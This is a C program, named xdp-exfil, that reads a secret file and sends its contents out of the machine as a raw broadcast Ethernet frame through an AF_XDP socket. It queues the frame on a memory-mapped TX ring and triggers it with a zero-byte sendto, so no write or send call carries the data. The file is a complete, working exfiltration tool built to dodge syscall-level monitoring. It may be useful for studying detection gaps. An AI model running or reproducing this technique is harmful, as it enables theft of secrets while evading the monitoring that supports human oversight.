// AF_XDP exfiltration with no write(2) of the data: a secret read into the process' memory (the UMEM registered with
// the socket) leaves as an Ethernet frame on an interface, queued through a TX ring mapped from the socket and kicked
// with a zero-byte sendto. Usage: xdp-exfil SECRET IFNAME
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_xdp.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef SOL_XDP
#define SOL_XDP 283
#endif
#define FRAME 2048
#define NFRAMES 16
#define RING 16

static void die(const char *what) { fprintf(stderr, "xdp-exfil: %s: %s\n", what, strerror(errno)); exit(1); }

int main(int argc, char **argv) {
  if (argc != 3) { fprintf(stderr, "usage: xdp-exfil SECRET IFNAME\n"); return 2; }
  int fd = socket(AF_XDP, SOCK_RAW, 0);
  if (fd < 0) die("socket(AF_XDP)");
  unsigned char *umem = mmap(NULL, FRAME * NFRAMES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (umem == MAP_FAILED) die("mmap umem");
  struct xdp_umem_reg mr = { .addr = (uint64_t)(uintptr_t)umem, .len = FRAME * NFRAMES, .chunk_size = FRAME, .headroom = 0 };
  if (setsockopt(fd, SOL_XDP, XDP_UMEM_REG, &mr, sizeof mr) < 0) die("XDP_UMEM_REG");
  int n = RING;
  if (setsockopt(fd, SOL_XDP, XDP_UMEM_FILL_RING, &n, sizeof n) < 0) die("XDP_UMEM_FILL_RING");
  if (setsockopt(fd, SOL_XDP, XDP_UMEM_COMPLETION_RING, &n, sizeof n) < 0) die("XDP_UMEM_COMPLETION_RING");
  if (setsockopt(fd, SOL_XDP, XDP_TX_RING, &n, sizeof n) < 0) die("XDP_TX_RING");
  struct xdp_mmap_offsets off;
  socklen_t ol = sizeof off;
  if (getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, &off, &ol) < 0) die("XDP_MMAP_OFFSETS");
  // the rings: memory shared with the socket (MAP_SHARED of its descriptor)
  unsigned char *tx = mmap(NULL, off.tx.desc + RING * sizeof(struct xdp_desc), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, XDP_PGOFF_TX_RING);
  if (tx == MAP_FAILED) die("mmap tx ring");
  unsigned char *cq = mmap(NULL, off.cr.desc + RING * sizeof(uint64_t), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, XDP_UMEM_PGOFF_COMPLETION_RING);
  if (cq == MAP_FAILED) die("mmap completion ring");
  struct sockaddr_xdp sx = { .sxdp_family = AF_XDP, .sxdp_ifindex = if_nametoindex(argv[2]), .sxdp_queue_id = 0, .sxdp_flags = XDP_COPY };
  if (sx.sxdp_ifindex == 0) die("if_nametoindex");
  if (bind(fd, (struct sockaddr *)&sx, sizeof sx) < 0) die("bind");
  // only now the secret: into the frame, behind an Ethernet header (broadcast, a local experimental EtherType)
  int sf = open(argv[1], O_RDONLY);
  if (sf < 0) die("open secret");
  ssize_t got = read(sf, umem + ETH_HLEN, FRAME - ETH_HLEN);
  if (got <= 0) die("read secret");
  close(sf);
  memset(umem, 0xff, 6);
  memset(umem + 6, 0x02, 6);
  umem[12] = 0x88; umem[13] = 0xb5;
  struct xdp_desc *descs = (struct xdp_desc *)(tx + off.tx.desc);
  descs[0].addr = 0;
  descs[0].len = ETH_HLEN + got;
  descs[0].options = 0;
  __atomic_store_n((uint32_t *)(tx + off.tx.producer), 1, __ATOMIC_RELEASE);
  // the kick: zero bytes, as far as the syscall says
  if (sendto(fd, NULL, 0, MSG_DONTWAIT, NULL, 0) < 0 && errno != EAGAIN && errno != EBUSY && errno != ENOBUFS) die("sendto");
  for (int i = 0; i < 200; i++) {
    if (__atomic_load_n((uint32_t *)(cq + off.cr.producer), __ATOMIC_ACQUIRE) >= 1) {
      printf("sent %zd bytes\n", got);
      return 0;
    }
    struct timespec ts = { 0, 5000000 };
    nanosleep(&ts, NULL);
    sendto(fd, NULL, 0, MSG_DONTWAIT, NULL, 0);
  }
  fprintf(stderr, "xdp-exfil: the frame did not complete\n");
  return 1;
}
